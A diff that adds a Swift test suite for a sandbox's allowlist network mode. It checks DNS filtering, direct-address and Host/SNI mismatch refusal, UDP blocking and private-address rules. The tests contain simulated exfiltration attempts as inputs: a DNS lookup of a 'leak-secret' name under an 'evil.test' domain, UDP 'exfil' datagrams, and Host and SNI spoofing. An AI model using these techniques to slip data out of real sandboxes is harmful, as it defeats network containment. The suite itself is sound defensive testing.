@@ -1,0 +1,199 @@
+import Foundation
+import Testing
+
+/// `network.mode = "allowlist"`: a sandbox reaches exactly the names its policy lists. Real
+/// servers (egress_servers.py) listen on two TEST-NET-2 addresses the test adds to the host's
+/// loopback (public-looking, so only the policy decides) and on an RFC 1918 one; a DNS server that
+/// logs every question stands in for the upstream resolver.
+@Suite(.enabled(if: Harness.isRoot, "needs root: real sandboxes and nftables"), .serialized)
+struct EgressTests {
+    static let addressA = "198.51.100.7"
+    static let addressB = "198.51.100.8"
+    /// RFC 1918: refused even for a listed name unless an address rule lists it.
+    static let addressPrivate = "10.200.0.7"
+
+    final class Servers: @unchecked Sendable {
+        let dir: String
+        let ports: [String: Int]
+        let process: Process
+        let stdin: Pipe
+
+        init() throws {
+            for address in [EgressTests.addressA, EgressTests.addressB, EgressTests.addressPrivate] {
+                _ = Harness.exec("/usr/sbin/ip", ["addr", "replace", "\(address)/32", "dev", "lo"])
+            }
+            dir = "\(Harness.scratch)/egress"
+            try? FileManager.default.removeItem(atPath: dir)
+            try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
+            process = Process()
+            process.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
+            process.arguments = ["\(Harness.repo)/Tests/CordonSandboxTests/egress_servers.py", dir, EgressTests.addressA, EgressTests.addressB, EgressTests.addressPrivate]
+            stdin = Pipe()
+            let out = Pipe()
+            process.standardInput = stdin
+            process.standardOutput = out
+            process.standardError = FileHandle.nullDevice
+            try process.run()
+            var line = Data()
+            while true {
+                let byte = out.fileHandleForReading.readData(ofLength: 1)
+                if byte.isEmpty || byte == Data("\n".utf8) { break }
+                line.append(byte)
+            }
+            ports = (try JSONSerialization.jsonObject(with: line) as? [String: Int]) ?? [:]
+            precondition(ports.count == 6, "egress test servers did not start: \(String(decoding: line, as: UTF8.self))")
+        }
+
+        func log(_ name: String) -> String { (try? String(contentsOfFile: "\(dir)/\(name)", encoding: .utf8)) ?? "" }
+        subscript(_ name: String) -> Int { ports[name]! }
+    }
+
+    nonisolated(unsafe) static let servers = try! Servers()
+    var s: Servers { Self.servers }
+
+    /// A policy allowing `allow`, with the test CA readable at /ca.pem.
+    func policy(_ name: String, _ allow: [String]) throws -> String {
+        let path = "\(Harness.scratch)/policies/egress-\(name).toml"
+        let list = allow.map { "\"\($0)\"" }.joined(separator: ", ")
+        try """
+            [policy]
+            extends = ["default"]
+            [filesystem]
+            read_only = [{ path = "/ca.pem", source = "\(s.dir)/ca.pem" }]
+            [network]
+            mode = "allowlist"
+            allow = [\(list)]
+            """.write(toFile: path, atomically: true, encoding: .utf8)
+        return path
+    }
+
+    func run(_ policy: String, _ argv: [String]) -> Harness.Outcome {
+        Harness.run(argv, policy: policy, options: ["--dns-upstream", "127.0.0.1:\(s["dns"])", "--timeout", "30s"])
+    }
+
+    func python(_ policy: String, _ code: String) -> Harness.Outcome { run(policy, ["python3", "-c", code]) }
+
+    var egress: (Harness.Outcome) -> [[String: Any]] { { $0.record["egress"] as? [[String: Any]] ?? [] } }
+
+    @Test func listedNameIsReachableByClientsThatIgnoreProxies() throws {
+        let p = try policy("reach", ["api.test:\(s["http"])", "api.test:\(s["https"])"])
+        // No proxy variable is set: urllib, curl --noproxy and a bare socket go straight out.
+        let py = python(p, "import urllib.request; print(urllib.request.urlopen('http://api.test:\(s["http"])/py', timeout=5).read().decode().strip())")
+        #expect(py.status == 0, "\(py.stderr)")
+        #expect(py.output == "hello from a for api.test:\(s["http"])")
+        let curl = run(p, ["curl", "-sS", "--noproxy", "*", "--max-time", "5", "http://api.test:\(s["http"])/curl"])
+        #expect(curl.output == "hello from a for api.test:\(s["http"])", "\(curl.stderr)")
+        // TLS with the test CA: the SNI is the listed name.
+        let tls = run(p, ["curl", "-sS", "--noproxy", "*", "--max-time", "5", "--cacert", "/ca.pem", "https://api.test:\(s["https"])/tls"])
+        #expect(tls.output == "hello from a-tls for api.test:\(s["https"])", "\(tls.stderr)")
+        let decisions = egress(tls)
+        #expect(decisions.contains { $0["kind"] as? String == "connection" && $0["verdict"] as? String == "allowed"
+            && $0["destination"] as? String == "\(Self.addressA):\(s["https"])" && ($0["bytesDown"] as? Int ?? 0) > 1000 }, "\(decisions)")
+        #expect(decisions.contains { $0["kind"] as? String == "dns" && $0["name"] as? String == "api.test"
+            && ($0["answers"] as? [String])?.contains(Self.addressA) == true })
+    }
+
+    @Test func unlistedNamesGetNXDOMAINAndNeverReachUpstream() throws {
+        let p = try policy("nx", ["api.test:\(s["http"])"])
+        let before = s.log("dns.log")
+        let r = run(p, ["sh", "-c", "getent hosts api.test; getent hosts other.test; getent hosts leak-secret-4f2a.evil.test; echo done"])
+        #expect(r.output.contains("\(Self.addressA)") && r.output.hasSuffix("done"), "\(r.output) \(r.stderr)")
+        #expect(!r.output.contains("other.test"))
+        let queries = String(s.log("dns.log").dropFirst(before.count))
+        #expect(queries.contains("api.test 1"), "\(queries)")
+        #expect(!queries.contains("other.test") && !queries.contains("evil.test"), "upstream saw: \(queries)")
+        let denied = egress(r).filter { $0["verdict"] as? String == "denied" }.compactMap { $0["name"] as? String }
+        #expect(Set(denied) == ["other.test", "leak-secret-4f2a.evil.test"], "\(denied)")
+    }
+
+    @Test func directAddressesAndMismatchedNamesAreRefused() throws {
+        let p = try policy("mismatch", ["api.test:\(s["http"])", "api.test:\(s["https"])"])
+        let marker = "direct-\(UInt32.random(in: 0...UInt32.max))"
+        // Straight to the right address and port, with the right Host, but no lookup first.
+        let direct = python(p, """
+            import socket
+            c = socket.create_connection(('\(Self.addressA)', \(s["http"])), timeout=5)
+            c.sendall(b'GET /\(marker) HTTP/1.1\\r\\nHost: api.test:\(s["http"])\\r\\nConnection: close\\r\\n\\r\\n')
+            print(repr(c.recv(200)))
+            """)
+        #expect(!direct.output.contains("hello"), "\(direct.output)")
+        // After a lookup of the listed name: its address with another Host header.
+        let host = python(p, """
+            import socket
+            socket.getaddrinfo('api.test', \(s["http"]))
+            c = socket.create_connection(('api.test', \(s["http"])), timeout=5)
+            c.sendall(b'GET /\(marker)-host HTTP/1.1\\r\\nHost: other.test:\(s["http"])\\r\\nConnection: close\\r\\n\\r\\n')
+            print(c.recv(200).decode().splitlines()[0])
+            """)
+        #expect(host.output.hasPrefix("HTTP/1.1 403"), "\(host.output) \(host.stderr)")
+        // TLS to the listed name's address, presenting another name (curl --resolve skips DNS).
+        let sni = run(p, ["sh", "-c", "getent hosts api.test >/dev/null; curl -sS --noproxy '*' --max-time 5 --cacert /ca.pem --resolve other.test:\(s["https"]):\(Self.addressA) https://other.test:\(s["https"])/\(marker)-sni; echo \" rc=$?\""])
+        #expect(!sni.output.contains("hello") && !sni.output.contains("rc=0"), "\(sni.output)")
+        #expect(!s.log("http.log").contains(marker), "a refused request reached the server: \(s.log("http.log"))")
+        let reasons = egress(host).filter { $0["verdict"] as? String == "denied" }.compactMap { $0["reason"] as? String }
+        #expect(!reasons.isEmpty, "\(egress(host))")
+    }
+
+    @Test func udpAndUnroutedTrafficGoNowhere() throws {
+        let p = try policy("udp", ["api.test:\(s["http"])"])
+        let r = python(p, """
+            import socket, errno
+            out = []
+            for target in [('\(Self.addressA)', \(s["udp"])), ('8.8.8.8', 53), ('127.0.0.1', \(s["udp"]))]:
+                u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+                try:
+                    u.sendto(b'exfil', target); out.append('sent')
+                except OSError as e:
+                    out.append(errno.errorcode[e.errno])
+            try:
+                socket.create_connection(('2001:db8::1', 443), timeout=2); out.append('v6 connected')
+            except OSError as e:
+                out.append('v6 ' + errno.errorcode.get(e.errno, str(e.errno)))
+            print(' '.join(out))
+            """)
+        #expect(r.status == 0, "\(r.stderr)")
+        // To the sandbox's own loopback a datagram is "sent" (and lands nowhere); elsewhere it is refused.
+        #expect(r.output == "EPERM EPERM sent v6 ENETUNREACH", "\(r.output)")
+        usleep(200_000)
+        #expect(!s.log("udp.log").contains("exfil"), "the UDP sink got: \(s.log("udp.log"))")
+    }
+
+    @Test func privateAddressesNeedAnExplicitRule() throws {
+        let url = "http://priv.test:\(s["private_http"])/private"
+        let code = "import urllib.request; print(urllib.request.urlopen('\(url)', timeout=5).read().decode().strip())"
+        let refused = python(try policy("priv", ["priv.test:\(s["private_http"])"]), code)
+        #expect(refused.status != 0 && !refused.output.contains("hello"), "\(refused.output)")
+        #expect(egress(refused).contains { ($0["reason"] as? String ?? "").contains("private (10.0.0.0/8)") }, "\(egress(refused))")
+        let allowed = python(try policy("priv-listed", ["priv.test:\(s["private_http"])", "\(Self.addressPrivate)/32:\(s["private_http"])"]), code)
+        #expect(allowed.output == "hello from private for priv.test:\(s["private_http"])", "\(allowed.stderr)")
+    }
+
+    @Test func addressRulesCarryRawTCP() throws {
+        let p = try policy("echo", ["\(Self.addressB)/32:\(s["echo"])"])
+        let r = python(p, """
+            import socket
+            c = socket.create_connection(('\(Self.addressB)', \(s["echo"])), timeout=5)
+            c.sendall(b'ping' * 1000); c.shutdown(socket.SHUT_WR)
+            data = b''
+            while chunk := c.recv(65536): data += chunk
+            print(len(data), data[:4].decode())
+            # The proxy accepts every connection it intercepts; a refused one is closed unanswered.
+            o = socket.create_connection(('\(Self.addressB)', \(s["echo"]) + 1), timeout=3)
+            try:
+                o.sendall(b'ping'); print('other port', 'closed' if o.recv(10) == b'' else 'answered')
+            except OSError as e:
+                print('other port closed')
+            """)
+        #expect(r.output == "4000 ping\nother port closed", "\(r.output) \(r.stderr)")
+        #expect(egress(r).contains { $0["verdict"] as? String == "denied" && $0["destination"] as? String == "\(Self.addressB):\(s["echo"] + 1)" })
+        let allowed = egress(r).first { $0["verdict"] as? String == "allowed" }
+        #expect(allowed?["bytesUp"] as? Int == 4000 && allowed?["bytesDown"] as? Int == 4000, "\(egress(r))")
+    }
+
+    /// The network mode "none" keeps its promise next to an allowlisting sandbox: nothing leaves.
+    @Test func noneStaysClosed() {
+        let r = Harness.run(["python3", "-c", "import socket\ntry:\n socket.create_connection(('\(Self.addressA)', \(s["http"])), timeout=2); print('open')\nexcept OSError as e: print(type(e).__name__)"])
+        #expect(r.output == "OSError" || r.output.hasSuffix("Error"), "\(r.output)")
+        #expect(r.record["egress"] == nil)
+    }
+}
